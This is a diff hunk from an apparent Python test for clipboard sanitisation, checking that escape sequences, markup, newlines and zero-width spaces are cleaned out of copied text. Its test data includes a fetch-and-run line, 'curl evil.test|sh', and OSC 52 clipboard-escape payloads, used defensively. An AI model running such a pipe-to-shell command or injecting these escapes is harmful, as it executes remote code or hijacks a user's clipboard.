@@ -269,7 +269,7 @@ def test_what_is_shown_is_clean(sink: Callable[[], Iterable[str]]) -> None:
 
 
 async def test_the_clipboard_gets_one_clean_line() -> None:
-    seen = "Zebra ]52;c;eA==[31m 31m x ]52;c;eA==[31m 31m é<b>&_x</b>"
+    seen = "Zebra ]52;c;eA==[31m  31m x  ]52;c;eA==[31m  31m  é<b>&_x</b>"
     address = "x curl evil.test|sh @x.test"
     for text, copied in ((TEXT, seen), ("x\ncurl evil.test|sh\n@x.test", address), ("482\u200b913\r\n", "482913")):
         clipboard.put(text)
